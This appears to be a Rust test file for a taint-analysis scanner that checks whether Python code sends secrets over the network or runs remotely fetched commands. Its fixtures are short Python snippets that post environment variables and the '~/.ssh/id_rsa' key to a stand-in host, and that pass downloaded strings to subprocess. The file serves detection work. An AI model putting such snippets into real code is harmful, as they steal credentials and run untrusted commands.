use crate::flow::testing::{found, wheel};
use customs_model::{SinkKind, SourceKind};

fn sends(code: &str, source: SourceKind) -> bool {
    let flows = found(wheel(code)).flows;
    let mut flows = flows.iter();
    flows.any(|flow| flow.source == source && flow.sink == SinkKind::Network)
}

#[test]
fn what_is_put_into_what_a_context_lends_is_in_it() {
    let code = "
import contextlib, os, urllib.request
@contextlib.contextmanager
def lend(address):
    parts = []
    yield parts
    urllib.request.urlopen(address, data=parts[0])
with lend('https://a.invalid') as one:
    one.append(str(PUT).encode())
";
    let sends = |put: &str| sends(&code.replace("PUT", put), SourceKind::Environment);
    assert!(sends("os.environ"));
    assert!(!sends("os.name"));
}

#[test]
fn a_method_that_is_handed_on_gives_what_it_reads() {
    for code in [
        "f = (HOME / FILE).read_bytes\nrequests.post('https://a.invalid', data=f())",
        "requests.post('https://a.invalid', data=POOL.submit((HOME / FILE).read_bytes).result())",
    ] {
        let begin = "import pathlib, requests\nfrom concurrent.futures import ThreadPoolExecutor\n\
                     HOME = pathlib.Path.home()\nPOOL = ThreadPoolExecutor(1)\n";
        let code = |file: &str| format!("{begin}{}", code.replace("FILE", file));
        assert!(
            sends(&code("'.ssh/id_rsa'"), SourceKind::CredentialFile),
            "{}",
            code("''")
        );
        assert!(
            !sends(&code("'notes'"), SourceKind::CredentialFile),
            "{}",
            code("''")
        );
    }
}

#[test]
fn going_through_an_object_gives_what_its_iterator_yields() {
    let runs = |iterator: &str| {
        let code = format!(
            "
import json, subprocess, urllib.request
class Bot:
    def {iterator}(self):
        for one in json.load(urllib.request.urlopen('https://a.invalid/g')):
            yield one['text']
    def run(self):
        for one in self:
            subprocess.getoutput(one)
Bot().run()
"
        );
        let flows = found(wheel(&code)).flows;
        let mut flows = flows.iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
    };
    assert!(runs("__iter__"));
    assert!(!runs("each"));
}
